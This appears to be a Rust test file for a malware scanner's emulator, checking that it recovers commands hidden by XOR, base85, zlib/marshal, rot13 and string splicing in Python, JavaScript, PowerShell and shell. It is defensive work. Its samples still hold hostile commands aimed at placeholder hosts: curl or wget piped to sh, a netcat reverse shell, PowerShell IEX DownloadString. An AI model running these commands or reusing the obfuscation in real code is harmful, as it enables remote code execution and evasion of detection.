use std::time::Instant;

use base64::Engine as _;
use proptest::prelude::*;

use super::*;

fn run(text: &str, lang: Lang) -> Vec<Payload> {
    emulate(text, lang, &DecodeLimits::default())
}

fn texts(text: &str, lang: Lang) -> Vec<String> {
    run(text, lang).into_iter().map(|p| p.text).collect()
}

fn b85(data: &[u8]) -> String {
    const ALPHABET: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
    let mut out = String::new();
    for chunk in data.chunks(4) {
        let mut block = [0u8; 4];
        block[..chunk.len()].copy_from_slice(chunk);
        let mut n = u32::from_be_bytes(block) as u64;
        let mut digits = [0u8; 5];
        for d in digits.iter_mut().rev() {
            *d = ALPHABET[(n % 85) as usize];
            n /= 85;
        }
        out.push_str(std::str::from_utf8(&digits[..chunk.len() + 1]).unwrap());
    }
    out
}

#[test]
fn python_affine_bytes_reach_exec() {
    let payload = b"import os; os.system('wget -q https://x.example.invalid/a')";
    let packed: Vec<String> = payload.iter().map(|&b| ((b as u32 * 7 + 3) % 256).to_string()).collect();
    // 183 is the inverse of 7 modulo 256.
    let src = format!(
        "K, A = 183, 3\nD = bytes([{}])\ndef go():\n    code = bytes((K * (v - A)) % 256 for v in D).decode()\n    exec(compile(code, '<x>', 'exec'))\n",
        packed.join(", ")
    );
    let out = run(&src, Lang::Python);
    assert!(out.iter().any(|p| p.text.contains("wget -q https")), "{out:?}");
    assert_eq!(out[0].chain[0], "emulated");
    assert!(out[0].chain.iter().any(|s| s == "arithmetic"), "{out:?}");
    // The span is the statement that produced the value, inside the text.
    assert!(src[out[0].span.clone()].contains("bytes("));
}

#[test]
fn js_repeating_xor_key_and_from_char_code() {
    let key = [0x21u8, 0x7e, 0x42, 0x09];
    let plain = b"require('child_process').execSync('nc -e /bin/sh 203.0.113.9 4444')";
    let list: Vec<String> = plain.iter().enumerate().map(|(i, b)| (b ^ key[i % 4]).to_string()).collect();
    // The function using the table comes before the table (hoisting): the second pass sees it.
    let src = format!(
        "function t() {{\n  return String.fromCharCode(...T.map((c, i) => c ^ K[i % K.length]));\n}}\nconst K = [0x21, 0x7e, 0x42, 0x09];\nconst T = [{}];\neval(t());\n",
        list.join(",")
    );
    let out = texts(&src, Lang::Javascript);
    assert!(out.iter().any(|t| t.contains("nc -e /bin/sh")), "{out:?}");
}

#[test]
fn user_functions_with_parameters_are_applied() {
    let key = b"k3y";
    let plain = b"__import__('os').system('curl -s http://203.0.113.7/q | sh')";
    let blob: Vec<String> = plain.iter().enumerate().map(|(i, b)| (b ^ key[i % 3]).to_string()).collect();
    let src = format!(
        "def unpack(data, k=b'k3y'):\n    return bytes(c ^ k[i % len(k)] for i, c in enumerate(data)).decode()\n\ndef _hook(x): return exec(x)\n\nBLOB = [{}]\n_hook(unpack(BLOB, b'k3y'))\n",
        blob.join(", ")
    );
    let out = run(&src, Lang::Python);
    assert!(out.iter().any(|p| p.text.contains("curl -s http://203.0.113.7/q")), "{out:?}");
    // JavaScript: a helper declared with `function`, used before its table.
    let src = "function dec(a, k) {\n  return a.map((c) => String.fromCharCode(c - k)).join('');\n}\nconst cp = require('child_process');\ncp.execSync(dec(T, 3));\nconst T = [122, 106, 104, 119, 35, 107, 119, 119, 115, 61, 50, 50, 123];\n";
    assert!(texts(src, Lang::Javascript).iter().any(|t| t == "wget http://x"), "{:?}", texts(src, Lang::Javascript));
}

#[test]
fn python_base85_through_aliases_and_getattr() {
    let blob = b85(b"import subprocess; subprocess.Popen(['curl', '-s', 'http://198.51.100.3/x'])");
    let src = format!(
        "import base64 as q\nB = (\"{}\"\n     \"{}\")\nload = getattr(q, 'b8' + '5decode')\nrun_it = exec\nrun_it(load(B).decode())\n",
        &blob[..blob.len() / 2],
        &blob[blob.len() / 2..]
    );
    let out = run(&src, Lang::Python);
    assert!(out.iter().any(|p| p.text.contains("subprocess.Popen") && p.chain.contains(&"base85".into())), "{out:?}");
}

#[test]
fn ascii85_z85_and_zlib_then_marshal() {
    assert_eq!(super::super::decode_a85("<~87cURD]i,\"Ebo80~>").as_deref(), Some(&b"Hello World!"[..]));
    assert_eq!(
        super::super::decode_z85("HelloWorld").as_deref(),
        Some(&[0x86, 0x4f, 0xd2, 0x6f, 0xb5, 0x59, 0xf7, 0x5b][..])
    );

    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut z, b"\xe3\x00\x00\x00urlopen\x00\x00http://203.0.113.5/stage2\x00exec").unwrap();
    let b64 = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
    let src =
        format!("import marshal, zlib, base64 as b\nexec(marshal.loads(zlib.decompress(b.b64decode('{b64}'))))\n");
    let out = run(&src, Lang::Python);
    let p = out.iter().find(|p| p.text.contains("http://203.0.113.5/stage2")).expect("marshal strings");
    assert!(p.chain.iter().any(|s| s == "zlib") && p.chain.iter().any(|s| s == "marshal"), "{p:?}");
}

#[test]
fn shell_fragments_expand_into_eval() {
    let src = "#!/bin/sh\na='wg'; b='et -q'; c=' -O- ht'; d='tp://203.0.113.4/i'\nx=\"$a$b$c$d | s\"'h'\neval \"$x\"\n";
    let out = texts(src, Lang::Shell);
    assert!(out.iter().any(|t| t == "wget -q -O- http://203.0.113.4/i | sh"), "{out:?}");
    // Unknown variables or command substitution: nothing is invented.
    assert!(texts("y=\"$UNSET/ht\"\"tp\"\nz=$(cat f)\"curl\"\n", Lang::Shell).is_empty());
}

#[test]
fn powershell_char_casts_bxor_and_join() {
    let plain = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.8/p')";
    let xored: Vec<String> = plain.bytes().map(|b| (b ^ 7).to_string()).collect();
    let src = format!("$k = 7\n$d = @({})\n$s = -join ($d | % {{ [char]($_ -bxor $k) }})\n", xored.join(","));
    let out = run(&src, Lang::Powershell);
    assert!(out.iter().any(|p| p.text == plain && p.chain.iter().any(|s| s == "xor")), "{out:?}");
    let codes: Vec<String> = plain.bytes().map(|b| b.to_string()).collect();
    let src = format!("$u = -join ([char[]]@({}))\niex $u\n", codes.join(","));
    assert!(texts(&src, Lang::Powershell).iter().any(|t| t == plain));
    let src = "$a = 'Invoke-Web' + 'Request'\n$b = \"$a -Uri ht\" + 'tp://198.51.100.8/p'\nInvoke-Expression $b\n";
    assert!(texts(src, Lang::Powershell).iter().any(|t| t.starts_with("Invoke-WebRequest -Uri http")));
}

#[test]
fn honest_code_reveals_nothing() {
    // The words are already in the source: building a command is not hiding one.
    assert!(texts("import subprocess\nURL = 'https://api.example.invalid'\ncmd = 'curl -s ' + URL + '/v1'\nsubprocess.run(cmd, shell=True)\n", Lang::Python).is_empty());
    assert!(
        texts(
            "BASE=https://dl.example.invalid\nURL=\"$BASE/tool.tar.gz\"\ncurl -fsSL \"$URL\" -o t.tgz\n",
            Lang::Shell
        )
        .is_empty()
    );
    // A JS minifier's identifier alphabet from character codes.
    let alphabet: Vec<String> = (97..123).chain(65..91).map(|c: u32| c.to_string()).collect();
    let src = format!(
        "const CHARS = String.fromCharCode({});\nconst SHORT = CHARS.split('').map((c) => '_' + c);\n",
        alphabet.join(", ")
    );
    assert!(texts(&src, Lang::Javascript).is_empty());
    // A PNG icon kept as base85 and written to disk.
    let png = [
        0x89, b'P', b'N', b'G', 13, 10, 26, 10, 0, 0, 0, 13, b'I', b'H', b'D', b'R', 0, 0, 0, 16, 0, 0, 0, 16, 8, 6, 0,
        0, 0,
    ];
    let src = format!("import base64\nICON = '{}'\nopen('icon.png', 'wb').write(base64.b85decode(ICON))\n", b85(&png));
    assert!(texts(&src, Lang::Python).is_empty());
    // Not a code language.
    assert!(texts("x = 'cu' + 'rl http://x'", Lang::Markdown).is_empty());
}

#[test]
fn hostile_inputs_stay_bounded() {
    let started = Instant::now();
    let cases: Vec<(String, Lang)> = vec![
        ("(".repeat(200_000), Lang::Python),
        ("[".repeat(100_000) + &"]".repeat(100_000), Lang::Javascript),
        (format!("x = 'ab'\n{}", "x = x + x\n".repeat(5_000)), Lang::Python),
        (format!("x = [1]\n{}", "x = [x, x]\n".repeat(5_000)), Lang::Python),
        ("x = 'a' * 10**12\ny = [0] * 10**12\nz = range(10**15)\n".to_string(), Lang::Python),
        ("s = 'q' * 200000\nt = [s] * 200000\nu = [s for i in range(200000)]\n".to_string(), Lang::Python),
        ("f = lambda x: f(x)\nf(1)\ng = lambda x: map(g, [x])\ng(1)\n".to_string(), Lang::Python),
        ("const f = (x) => [...x, ...x];\nlet a = [1];\n".to_string() + &"a = f(a);\n".repeat(200), Lang::Javascript),
        ("s = 'x' * 100000\nq = ''.join(s[i] for i in range(len(s)))\n".to_string(), Lang::Python),
        (format!("a='x'\n{}", "a=\"$a$a\"\n".repeat(3_000)), Lang::Shell),
        ("'''".to_string() + &"\\".repeat(10_000), Lang::Python),
        (
            "\"\\u{110000}\\x\\u12\" + '\\777'\nx = 1 << 99\ny = 2 ** 99\nz = 5 % 0\nw = -9223372036854775808 // -1\n"
                .to_string(),
            Lang::Javascript,
        ),
        ("$x = [char[]]@(0x110000, -1)\n[char]99999999\n".to_string(), Lang::Powershell),
        (
            "x = 'abc'[::-9223372036854775807]\ny = 'abc'[-9223372036854775808]\nz = b'ab'[5:1:-1]\n".to_string(),
            Lang::Python,
        ),
    ];
    for (src, lang) in cases {
        let t = Instant::now();
        let _ = run(&src, lang);
        assert!(t.elapsed().as_secs() < 5, "{lang:?} took {:?}", t.elapsed());
    }
    assert!(started.elapsed().as_secs() < 30);
}

#[test]
fn step_budget_cuts_work_short() {
    let bounds = EmulateLimits { max_steps: 1_000, ..EmulateLimits::default() };
    let src = "a = 'cu'\nb = a + 'rl http://x'\n".repeat(2_000);
    let out = emulate_with(&src, Lang::Python, &DecodeLimits::default(), &bounds);
    assert!(out.len() <= 1);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_text_never_panics(src in "(?s).{0,400}", lang in 0usize..4) {
        let lang = [Lang::Python, Lang::Javascript, Lang::Powershell, Lang::Shell][lang];
        let _ = run(&src, lang);
    }

    #[test]
    fn token_soup_never_panics(parts in proptest::collection::vec(prop::sample::select(vec![
        "x", "=", "(", ")", "[", "]", "{", "}", ",", ":", "+", "*", "^", "%", "**", "...", "=>", "lambda", "for",
        "in", "'cu'", "\"rl\"", "b'\\x00'", "0x41", "-1", "9999999999999999999", "bytes", "chr", "join", ".",
        "exec", "getattr", "b85decode", "String.fromCharCode", "\n", ";", "$a", "[char]", "-join", "-bxor", "@(",
    ]), 0..120), lang in 0usize..4) {
        let lang = [Lang::Python, Lang::Javascript, Lang::Powershell, Lang::Shell][lang];
        let src = parts.join(" ");
        let _ = run(&src, lang);
    }
}

#[test]
fn interleaving_rot13_and_percent_escapes() {
    // Every other character, then reversed halves.
    let plain = "curl -s http://203.0.113.9/a";
    let mixed: String = plain.chars().zip("xyzwq".chars().cycle()).flat_map(|(a, b)| [a, b]).collect();
    let src = format!("s = '{mixed}'\ncmd = s[::2]\nexec(cmd)\n");
    let src = src.as_str();
    assert!(texts(src, Lang::Python).iter().any(|t| t == plain), "{:?}", texts(src, Lang::Python));
    let src =
        "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"jtrg uggc://k.rknzcyr.vainyvq/c\")', 'rot_13'))\n";
    assert!(texts(src, Lang::Python).iter().any(|t| t.contains("os.system(\"wget http")));
    let src =
        "const c = decodeURIComponent('%63%75%72%6c%20%68%74%74%70%3a%2f%2f%78');\nrequire('child_process').exec(c);\n";
    assert!(texts(src, Lang::Javascript).iter().any(|t| t == "curl http://x"));
}

#[test]
fn long_concatenations_are_one_node() {
    let src = format!("x = 'c' + 'u' + 'r' + 'l' + ' ' + 'h' + 't' + 't' + 'p'{}\nexec(x)\n", " + 'a'".repeat(5_000));
    assert!(texts(&src, Lang::Python).iter().any(|t| t.starts_with("curl http")));
}

#[test]
fn deep_nesting_fits_a_small_stack() {
    // The scanner runs on worker threads whose stack is already partly used: the emulator must
    // stay shallow even in debug builds, whatever the nesting of its input.
    let inputs: Vec<(String, Lang)> = ["[", "(", "-", "lambda: ", "x(", "[...", "-join (", "new ", "@("]
        .iter()
        .flat_map(|open| {
            [Lang::Python, Lang::Javascript, Lang::Powershell]
                .into_iter()
                .map(move |lang| (format!("x = {}'cu' + 'rl http://x'", open.repeat(200)), lang))
        })
        .chain(std::iter::once((format!("f = {}1{}", "(lambda x: ".repeat(60), ")".repeat(60)), Lang::Python)))
        .chain(std::iter::once((
            "x = 2 ** 2 ** 2 ** 2 ** 2 ** 2 ** 2 ** 2 ** 2 ** 2 ** 2 ** 2".repeat(20),
            Lang::Python,
        )))
        .chain(
            ["(1)", ".a", "[0]", " * 2", " ^ 1", " - 1"]
                .iter()
                .map(|t| (format!("x = y{}", t.repeat(20_000)), Lang::Python)),
        )
        .collect();
    let handle = std::thread::Builder::new()
        .stack_size(256 * 1024)
        .spawn(move || {
            for (src, lang) in inputs {
                let _ = run(&src, lang);
            }
        })
        .expect("spawn");
    handle.join().expect("no stack overflow");
}
